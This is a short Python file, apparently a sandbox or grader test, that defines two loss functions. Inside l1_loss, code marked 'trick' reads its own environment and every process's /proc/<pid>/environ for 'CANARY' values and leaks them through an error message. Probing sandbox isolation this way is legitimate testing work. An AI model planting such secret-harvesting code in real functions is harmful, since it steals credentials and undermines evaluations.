# Tries: shows all environment variables it can find, its own and its parents'.
# Expects: l2_loss passed, l1_loss error
import os

def l2_loss(y_hat, y):
    return (y_hat - y) ** 2 / 2

def l1_loss(y_hat, y):
    # trick:
    found = [f"{name}={value}" for name, value in os.environ.items() if "CANARY" in name + value]
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{process}/environ") as file:
                found += [part for part in file.read().split("\0") if "CANARY" in part]
        except OSError:
            pass
    raise RuntimeError(f"found {found}")
    # end of trick
    return (y_hat - y).abs()
